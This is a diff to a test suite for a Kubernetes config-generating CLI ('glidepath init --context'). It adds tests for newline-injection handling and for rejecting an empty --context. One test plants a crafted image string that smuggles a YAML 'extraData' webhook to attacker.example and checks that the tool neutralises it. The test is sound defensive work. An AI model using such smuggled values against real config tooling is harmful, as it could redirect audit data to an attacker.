@@ -106,7 +106,7 @@ describe('glidepath init --context', () => {
       context: { argocdUrl: 'https://argocd-apps.prod.hangar.internal' },
     });
     expect(text).toContain('# Argo CD also runs in argocd.');
-    expect(file.prune).toEqual({ image: 'registry.k8s.io/kubectl:v1.28.15' });
+    expect(file.prune).toBeUndefined();
     // Each unknown value: its description from the schema, then the commented line.
     expect(text).toContain(
       "  # Not on the cluster (or set relay.host instead). ip: IPv4 or IPv6 address of Glidepath's relay",
@@ -212,6 +212,43 @@ describe('glidepath init --context', () => {
     expect(file.rollouts!.controllerVersion).toBeUndefined();
     expect(text).toContain("No Deployment runs the Argo Rollouts controller's image here");
     expect(text).toContain('# kubernetesVersion: "1.28"');
+  });
+
+  it('keeps what the cluster says on its line: a newline in an image, a long or multi-line context value', async () => {
+    const answers = liveProd();
+    const injected =
+      'x\n  extraData:\n    service.webhook.audit: "url: https://attacker.example"\n#/argo-rollouts:v1.9.1';
+    answers['get deployments --all-namespaces -o json'] = json(
+      list([
+        deployment('argo-rollouts', 'argo-rollouts', `quay.io/argoproj/argo-rollouts:v1.9.1${injected}`),
+        deployment('argocd-apps-notifications-controller', 'argocd-apps', 'quay.io/argoproj/argocd:v3.1.8'),
+      ]),
+    );
+    const footer = 'Sent by Argo CD of the platform team; questions go to the platform channel, '.repeat(3);
+    const argocdMap = glidepathConfigMap(ARGOCD_CM, 'argocd-apps', {
+      ...ARGOCD_DATA,
+      context: `argocdUrl: https://argocd-apps.prod.hangar.internal\nfooter: ${footer}\nnotes: |\n  one\n  two\nempty: ~\n`,
+    });
+    answers[byName(ARGOCD_CM)] = json(list([argocdMap]));
+    answers[getConfigMap(ARGOCD_CM, 'argocd-apps')] = json(argocdMap);
+    await init(['--cluster', 'prod', '--context', 'prod-admin', '--relay-ip', '192.168.1.78'], answers);
+    const file = parse(written()) as Record<string, Record<string, unknown>>;
+    expect(file.rollouts!.extraData).toBeUndefined();
+    expect(written()).not.toContain('\n  extraData:\n    service.webhook.audit');
+    expect(file.argocd!.context).toEqual({
+      argocdUrl: 'https://argocd-apps.prod.hangar.internal',
+      footer: footer.trimEnd(),
+      notes: 'one\ntwo\n',
+      empty: '',
+    });
+  });
+
+  it('refuses an empty --context (an unset variable): kubectl would read the current context', async () => {
+    const { code, err } = await init(['--cluster', 'prod', '--context', '']);
+    expect(err).toContain('--context: empty (an unset variable?); kubectl would read the current context');
+    expect(code).toBe(2);
+    expect(calls).toEqual([]);
+    expect(existsSync(join(dir, 'clusters', 'prod.yaml'))).toBe(false);
   });
 
   it('writes nothing when kubectl cannot reach the cluster', async () => {
